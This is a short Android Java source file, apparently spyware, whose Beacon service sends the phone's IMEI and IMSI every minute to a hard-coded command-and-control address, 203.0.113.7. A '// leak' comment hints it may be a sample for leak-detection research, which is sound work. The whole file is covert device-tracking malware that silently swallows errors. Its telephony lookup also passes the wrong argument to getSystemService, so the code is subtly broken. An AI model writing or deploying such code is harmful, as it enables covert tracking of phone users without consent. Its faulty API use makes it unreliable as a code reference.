package spy;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.HashMap;
import java.util.Map;
import java.util.Timer;
import java.util.TimerTask;

/** Asks for orders every minute, and says who asks. */
public class Beacon extends Service {
    static final String SERVER = "http://203.0.113.7/";

    @Override
    public void onCreate() {
        Timer timer = new Timer();
        timer.schedule(new TimerTask() {
            public void run() {
                beat();
            }
        }, 0, 60000);
    }

    void beat() {
        Map<String, String> fields = new HashMap<String, String>();
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.class.getName());
        fields.put("imei", phone.getDeviceId());
        fields.put("imsi", phone.getSubscriberId());
        fields.put("v", "1");
        StringBuffer query = new StringBuffer();
        for (Map.Entry<String, String> one : fields.entrySet()) {
            query.append(one.getKey()).append("=").append(one.getValue()).append("&");
        }
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL(SERVER + "ping?" + query).openConnection(); // leak
            InputStream in = connection.getInputStream();
            in.close();
        } catch (Exception ignored) {
        }
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
